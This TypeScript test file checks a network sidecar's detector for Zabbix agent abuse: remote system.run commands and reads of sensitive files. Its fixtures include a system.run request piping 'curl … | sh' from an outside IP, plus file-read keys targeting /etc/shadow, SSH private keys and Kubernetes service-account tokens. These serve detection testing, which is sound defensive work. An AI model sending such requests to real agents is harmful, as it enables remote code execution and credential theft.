/** monitoring-agent-abuse on what the Zabbix parser tells from zabbix_agentd 6.0's own bytes, and on built requests. */
import { describe, expect, it } from 'vitest';
import type { ProtocolEvent } from '#sidecar/events.ts';
import { zabbix } from '#sidecar/protocols/zabbix.ts';
import { monitoringAgentAbuse } from '#sidecar/threats/monitoring-agent-abuse.ts';
import { normalizedPath } from '#sidecar/threats/text/agent-file-paths.ts';
import type { Segment } from '#test/fixtures/protocols/protocol-harness.ts';
import { zabbixMessage } from '#test/fixtures/protocols/zabbix-build.ts';
import {
  activeChecks,
  activeChecksAnswer,
  agentData,
  agentDataAnswer,
  answerFile,
  answerLoad,
  answerNotSupported,
  answerPing,
  answerRun,
  askFile,
  askLoad,
  askPing,
  askRun,
} from '#test/fixtures/protocols/zabbix-messages.ts';
import { flow, runThreat } from './threat-factories.ts';

const agentFlow = flow({
  protocol: 'zabbix',
  client: { ip: '10.0.0.5', port: 40000 },
  server: { ip: '10.0.0.9', port: 10050 },
});

/** One connection's events, then its end. */
const connection = (segments: readonly Segment[]): (ProtocolEvent | { kind: 'flow-end'; ts: number })[] => {
  const parser = zabbix.createParser();
  return [
    ...segments.flatMap(([direction, bytes], i) => parser.parse(bytes, direction, i)),
    { kind: 'flow-end', ts: 99 },
  ];
};

const ask = (key: string, answer?: Uint8Array): Segment[] => [
  ['to-server', zabbixMessage(key)],
  ...(answer === undefined ? [] : ([['to-client', answer]] as Segment[])),
];

const judged = (segments: readonly Segment[], config: Record<string, unknown> = {}) =>
  runThreat(monitoringAgentAbuse, connection(segments), { flow: agentFlow, config }).map((h) => [
    h.severity,
    h.evidence,
  ]);

describe('monitoring-agent-abuse', () => {
  it('reports system.run answered with output critical, naming the command (the agent ran id)', () => {
    expect(
      judged([
        ['to-server', askRun],
        ['to-client', answerRun],
      ]),
    ).toEqual([
      [
        'critical',
        '10.0.0.5 asked the Zabbix agent at 10.0.0.9:10050 to run `id` (system.run): remote commands are enabled; it answered with 38 octets',
      ],
    ]);
  });

  it('reports system.run refused or unanswered high', () => {
    expect(
      judged([
        ['to-server', askRun],
        ['to-client', answerNotSupported],
      ]),
    ).toEqual([
      [
        'high',
        '10.0.0.5 asked the Zabbix agent at 10.0.0.9:10050 to run `id` (system.run); it refused (not supported: Unsupported item key.)',
      ],
    ]);
    expect(judged(ask('system.run["curl -s http://203.0.113.7/x | sh",nowait]'))).toEqual([
      [
        'high',
        '10.0.0.5 asked the Zabbix agent at 10.0.0.9:10050 to run `curl -s http://203.0.113.7/x | sh` (system.run); its answer was not seen',
      ],
    ]);
  });

  it('reports file keys of sensitive paths high, through host mounts and dot segments, and bounds the command', () => {
    const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
    const reads = [
      `vfs.file.contents[${token}]`,
      'vfs.file.get[/host/etc/./shadow]',
      'vfs.file.regexp["/root/.ssh/id_rsa",KEY]',
      'vfs.dir.get[/var/lib/kubelet/pki]',
    ];
    const hits = reads.flatMap((key) => judged(ask(key, answerFile)));
    expect(hits.map(([severity]) => severity)).toEqual(['high', 'high', 'high', 'high']);
    expect(hits[0]?.[1]).toBe(
      `10.0.0.5 asked the Zabbix agent at 10.0.0.9:10050 for ${token} (vfs.file.contents), a sensitive path; it answered with 2 octets`,
    );
    const [[, evidence] = []] = judged(ask(`system.run[echo ${'A'.repeat(5000)}]`));
    expect(evidence?.length).toBeLessThan(400);
  });

  it('leaves ordinary monitoring alone: agent.ping, system.cpu.load, vfs.fs.size, ordinary files, active checks', () => {
    const ordinary: Segment[][] = [
      [
        ['to-server', askPing],
        ['to-client', answerPing],
      ],
      [
        ['to-server', askLoad],
        ['to-client', answerLoad],
      ],
      [
        ['to-server', askFile],
        ['to-client', answerFile],
      ],
      ask('vfs.fs.size[/,pfree]', answerLoad),
      ask('vfs.file.cksum[/etc/passwd,sha256]', answerLoad),
      ask('vfs.file.contents[/etc/os-release]', answerFile),
      ask('vfs.file.contents[/var/log/secrets-rotation.log]', answerFile),
      ask('system.runtime', answerLoad),
      [
        ['to-server', activeChecks],
        ['to-client', activeChecksAnswer],
      ],
      [
        ['to-server', agentData],
        ['to-client', agentDataAnswer],
      ],
    ];
    expect(ordinary.flatMap((segments) => judged(segments))).toEqual([]);
  });

  it("quiets remote commands from allowClients (the Zabbix server's), never their secret reads", () => {
    const config = { allowClients: ['10.0.0.0/24'] };
    expect(
      judged(
        [
          ['to-server', askRun],
          ['to-client', answerRun],
        ],
        config,
      ),
    ).toEqual([]);
    expect(judged(ask('vfs.file.contents[/etc/shadow]', answerFile), config).map(([s]) => s)).toEqual([
      'high',
    ]);
    expect(judged(ask('vfs.file.contents[/etc/shadow]', answerFile), { fileSeverity: 'off' })).toEqual([]);
    const quiet = { commandSeverity: 'off' };
    expect(judged([['to-server', askRun]], quiet)).toEqual([]);
    expect(
      judged(
        [
          ['to-server', askRun],
          ['to-client', answerRun],
        ],
        quiet,
      ).map(([s]) => s),
    ).toEqual(['critical']);
  });

  describe('active checks', () => {
    const item = (key: string, extra = '') =>
      `{"key":${JSON.stringify(key)},"itemid":1,"delay":"1s"${extra}}`;
    const handOut = (...keys: string[]): Segment[] => [
      ['to-server', activeChecks],
      ['to-client', zabbixMessage(`{"response":"success","data":[${keys.map((k) => item(k)).join(',')}]}`)],
    ];
    const sendBack = (...entries: [string, number][]): Segment[] => [
      [
        'to-server',
        zabbixMessage(
          `{"request":"agent data","session":"s","data":[${entries
            .map(
              ([key, state]) =>
                `{"host":"h","key":${JSON.stringify(key)},"value":"Linux","state":${state},"id":1}`,
            )
            .join(',')}]}`,
        ),
      ],
      ['to-client', agentDataAnswer],
    ];

    it('reports a remote command or a sensitive file handed to the agent high, once, and ordinary items not', () => {
      expect(
        judged(
          handOut(
            'agent.ping',
            'system.run[uname -s,wait]',
            'vfs.file.contents[/etc/shadow]',
            'system.run[uname -s,wait]',
          ),
        ),
      ).toEqual([
        [
          'high',
          'the Zabbix server at 10.0.0.9:10050 handed the agent at 10.0.0.5 an active check to run `uname -s` (system.run)',
        ],
        [
          'high',
          'the Zabbix server at 10.0.0.9:10050 handed the agent at 10.0.0.5 an active check to read /etc/shadow (vfs.file.contents), a sensitive path',
        ],
      ]);
      expect(
        judged(handOut('agent.ping', 'vfs.file.contents[/etc/hostname]', 'system.cpu.load[all,avg1]')),
      ).toEqual([]);
    });

    it("reports a command's output sent back critical, a file's contents high, and an unsupported item not", () => {
      expect(judged(sendBack(['system.run[uname -s]', 0], ['vfs.file.get[/root/.ssh/id_rsa]', 0]))).toEqual([
        [
          'critical',
          'the Zabbix agent at 10.0.0.5 sent the server at 10.0.0.9:10050 the output of `uname -s` (system.run): remote commands are enabled and ran',
        ],
        [
          'high',
          'the Zabbix agent at 10.0.0.5 sent the server at 10.0.0.9:10050 the contents of /root/.ssh/id_rsa (vfs.file.get), a sensitive path',
        ],
      ]);
      expect(judged(sendBack(['system.run[uname -s]', 1], ['agent.ping', 0]))).toEqual([]);
    });

    it('honours commandSeverity and fileSeverity off as passive checks do: a command that ran stays critical', () => {
      expect(judged(handOut('vfs.file.contents[/etc/shadow]'), { fileSeverity: 'off' })).toEqual([]);
      expect(judged(handOut('system.run[id]'), { commandSeverity: 'off' })).toEqual([]);
      expect(judged(sendBack(['system.run[id]', 0]), { commandSeverity: 'off' }).map(([s]) => s)).toEqual([
        'critical',
      ]);
    });

    it('quiets remote commands from allowServers (the real Zabbix server), never sensitive files', () => {
      const config = { allowServers: ['10.0.0.9'] };
      expect(judged(handOut('system.run[id]'), config)).toEqual([]);
      expect(judged(sendBack(['system.run[id]', 0]), config)).toEqual([]);
      expect(judged(handOut('vfs.file.contents[/etc/shadow]'), config).map(([s]) => s)).toEqual(['high']);
      expect(judged(handOut('system.run[id]'), { allowClients: ['10.0.0.9'] }).map(([s]) => s)).toEqual([
        'high',
      ]);
    });
  });

  it('normalizes paths as the kernel resolves them', () => {
    expect(normalizedPath('/etc//ssh/../shadow')).toBe('/etc/shadow');
    expect(normalizedPath('/../../etc/./shadow')).toBe('/etc/shadow');
    expect(normalizedPath('etc/shadow')).toBe('etc/shadow');
  });
});
